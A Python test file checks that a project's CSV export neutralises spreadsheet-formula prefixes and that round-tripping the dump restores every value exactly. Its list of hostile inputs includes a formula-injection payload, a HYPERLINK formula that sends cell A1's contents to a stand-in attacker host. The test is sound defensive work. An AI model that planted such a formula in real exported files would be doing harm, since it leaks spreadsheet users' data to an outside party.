"""CSV dumps never hand a spreadsheet a formula, and still import back exactly."""

from __future__ import annotations

import csv
import io
import json

from cspo_viewer.data.interchange import import_file
from cspo_viewer.data.interchange.csvfmt import neutralise, restore
from tests.interchange_support import dump_text, fresh_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1 234 567",
    "-2 dead",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
    "'=already quoted once",
    "''+twice",
    "plain text",
    "'just an apostrophe",
]


def test_neutralise_and_restore_are_exact_inverses():
    for value in [*HOSTILE, "", "'", "''", "=", "a=b"]:
        written = neutralise(value)
        assert written[:1] not in ("=", "+", "-", "@", "\t", "\r")
        assert restore(written) == value


def test_a_dump_of_hostile_text_is_inert_and_round_trips(tmp_path):
    events = [
        {
            "id": f"hostile-{i}",
            "date": "2020-01-01",
            "title": text,
            "kind": "other",
            "summary": text,
            "sources": [{"title": text, "publisher": text}],
            "quotes": [{"text": text, "speaker": text}],
        }
        for i, text in enumerate(HOSTILE)
    ]
    source = tmp_path / "hostile.json"
    source.write_text(json.dumps({"events": events}), encoding="utf-8")
    original = fresh_db(tmp_path, "original.db")
    assert import_file(original, source).written
    text = dump_text(original, "csv")
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    exported = tmp_path / "dump.csv"
    exported.write_text(text, encoding="utf-8", newline="")
    rebuilt = fresh_db(tmp_path, "rebuilt.db")
    report = import_file(rebuilt, exported)
    assert report.added == len(HOSTILE), [str(p) for p in report.problems]
    assert dump_text(rebuilt, "json") == dump_text(original, "json")
